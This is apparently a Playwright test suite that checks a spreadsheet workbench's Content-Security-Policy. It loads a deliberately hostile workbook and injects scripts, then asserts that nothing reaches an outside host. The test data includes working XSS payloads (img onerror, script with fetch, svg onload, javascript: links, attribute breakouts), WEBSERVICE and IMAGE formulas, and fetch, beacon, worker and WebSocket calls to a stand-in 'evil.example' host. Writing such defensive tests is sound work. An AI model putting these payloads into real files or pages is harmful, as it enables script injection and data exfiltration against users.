/** The workbench's security policy in a real browser, as it is handed out: strangers' files reach nothing and nobody. */
import { readFileSync } from "node:fs";
import { writeXlsx } from "hucre/xlsx";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { policy } from "../../webpack.workbench";
import { made } from "./built";
import { startBrowser } from "./chromium";
import { goTo, nextFrame, sample, tellViolations, type } from "./page";

let browser: Browser;

beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(() => browser?.close());

interface Visit {
  context: BrowserContext;
  page: Page;
  /** Breaches of the policy, and faults of the page. */
  faults: string[];
  /** What was asked of anybody but the page's own server. */
  asked: string[];
}

/** The page with its first sample open. */
async function visit(): Promise<Visit> {
  const context = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1366, height: 768 } });
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const [faults, asked]: [string[], string[]] = [[], []];
  await tellViolations(context, faults);
  context.on("weberror", (fault) => void faults.push(fault.error().message));
  // What a policy has stopped does not come as far as here.
  await context.route(
    ({ hostname }) => hostname !== "localhost",
    (route) => {
      asked.push(route.request().url());
      return route.abort();
    },
  );
  const page = await context.newPage();
  await page.goto(`${made.page}/workbench.html`);
  await ready(page);
  return { context, page, faults, asked };
}

async function ready(page: Page): Promise<void> {
  await page.locator("#loading").waitFor({ state: "hidden", timeout: 60_000 });
  await page.locator("#pane-loading").waitFor({ state: "hidden", timeout: 60_000 });
}

/** What a page asks for it asks for within a few frames: so many are given for what is not to happen. */
async function frames(page: Page, count: number): Promise<void> {
  for (let passed = 0; passed < count; passed++) await nextFrame(page);
}

const evil = "https://evil.example";
const markup = [
  `<img src="${evil}/img" onerror="globalThis.isReached=1">`,
  `<script>globalThis.isReached=1;fetch("${evil}/script")</script>`,
  `<iframe src="${evil}/frame"></iframe><svg onload="globalThis.isReached=1"></svg>`,
  `<style>*{background:url(${evil}/style)}</style><link rel="stylesheet" href="${evil}/link">`,
  `<a href="javascript:globalThis.isReached=1">x</a><base href="${evil}/">`,
  `"><img src=x onerror=globalThis.isReached=1>`,
];

/** Markup and calls to elsewhere wherever a workbook can say something: names, cells, notes, links, rules, formulas. */
async function hostile(): Promise<Buffer> {
  const rows = [
    ["No", "Indikator", "Nilai Maks", "Nilai Mandiri", "Data Dukung"],
    ...markup.map((text, at) => [at + 18, text, 24, text, text]),
  ];
  const cells = new Map<string, Said>();
  markup.forEach((text, at) =>
    cells.set(`${at + 1},1`, {
      ...{ value: text, comment: { author: text, text } },
      hyperlink: { target: `${evil}/${at}`, tooltip: text, display: text },
    }),
  );
  cells.set("1,6", { value: 0, formula: `WEBSERVICE("${evil}/formula")` });
  cells.set("2,6", { value: 0, formula: `IMAGE("${evil}/image")` });
  const bytes = await writeXlsx({ sheets: [{ name: "<img src=x>", rows, cells }] });
  return Buffer.from(bytes);
}

interface Said {
  value: string | number;
  formula?: string;
  comment?: { author: string; text: string };
  hyperlink?: { target: string; tooltip: string; display: string };
}

test("the page says the policy before anything else that could load", async () => {
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  const html = await (await context.request.get(`${made.page}/workbench.html`)).text();
  await context.close();
  const [meta = ""] = /<meta http-equiv="Content-Security-Policy"[^>]*>/.exec(html) ?? [];
  expect(meta).toContain(policy);
  expect(html.indexOf(meta)).toBeLessThan(html.indexOf("<script"));
  expect(policy.replace("style-src-attr 'unsafe-inline'", "")).not.toMatch(/unsafe|https?:|\*/);
});

describe("the policy", () => {
  let seen: Visit;
  beforeEach(async () => {
    seen = await visit();
  });
  afterEach(() => seen.context.close());

  test("is kept in normal use", async () => {
    const { page, faults, asked } = seen;
    await type(page, "H5", "=KLA.TIER(650)");
    await goTo(page, "E7");
    await page.keyboard.press("Control+c");
    await goTo(page, "H9");
    await page.keyboard.press("Control+v");
    await frames(page, 60);
    await page.mouse.click(300, 300, { button: "right" });
    await frames(page, 30);
    await page.keyboard.press("Escape");
    await page.click("#theme");
    await page.check('input[name="language"][value="en"]', { force: true });
    await ready(page);
    const pane = page.frameLocator("#pane iframe");
    // The pane has checked the sample by itself, as at every first visit.
    await pane
      .getByText(/771[.,]81/)
      .first()
      .waitFor({ timeout: 30_000 });
    await page.setInputFiles("#chosen", sample("lembar-per-klaster.xlsx"));
    await page.getByRole("button", { name: "Go on without saving" }).click();
    await page.locator("#file", { hasText: "lembar-per-klaster.xlsx" }).waitFor();
    await page.click("#download");
    const waiting = page.waitForEvent("download");
    await page.click("#save-now");
    expect(readFileSync(await (await waiting).path()).length).toBeGreaterThan(1000);
    expect([faults, asked]).toEqual([[], []]);
  });

  test("a stranger's file is shown and checked, and asks nothing of anybody", async () => {
    const { page, faults, asked } = seen;
    await page.setInputFiles("#chosen", { name: "<img src=x>.xlsx", mimeType: "", buffer: await hostile() });
    await page.locator("#file", { hasText: "<img src=x>.xlsx" }).waitFor();
    await ready(page);
    for (const at of ["B2", "D3", "G2"]) await goTo(page, at);
    await page.frameLocator("#pane iframe").getByRole("status").first().waitFor({ state: "attached" });
    await frames(page, 180);
    expect(await page.evaluate(() => Reflect.get(globalThis, "isReached"))).toBeUndefined();
    // Not even =IMAGE() asks for its picture: the grid works no formula of a cell out.
    expect(faults).toEqual([]);
    expect(asked).toEqual([]);
  });

  test("what got into the page all the same would be stopped", async () => {
    const { page, faults, asked } = seen;
    await page.evaluate(
      ([address, texts]) => {
        const place = document.createElement("div");
        place.innerHTML = texts.join("");
        document.body.append(place);
        const script = document.createElement("script");
        script.textContent = "globalThis.isReached = 1";
        document.body.append(script);
        void fetch(`${address}/fetch`).catch(() => undefined);
        navigator.sendBeacon(`${address}/beacon`);
        new Image().src = `${address}/image`;
        try {
          new Worker(`data:text/javascript,fetch("${address}/worker")`);
          new WebSocket(`${address.replace("https", "wss")}/socket`);
        } catch {
          // Refused at once: as it should be.
        }
      },
      [evil, markup] as const,
    );
    await frames(page, 90);
    expect(await page.evaluate(() => Reflect.get(globalThis, "isReached"))).toBeUndefined();
    const directives = new Set(faults.map((fault) => fault.split(":")[0]));
    expect([...directives]).toEqual(
      expect.arrayContaining([
        "script-src-elem",
        "script-src-attr",
        "img-src",
        "frame-src",
        "connect-src",
        "style-src-elem",
      ]),
    );
    expect(asked).toEqual([]);
  });
});
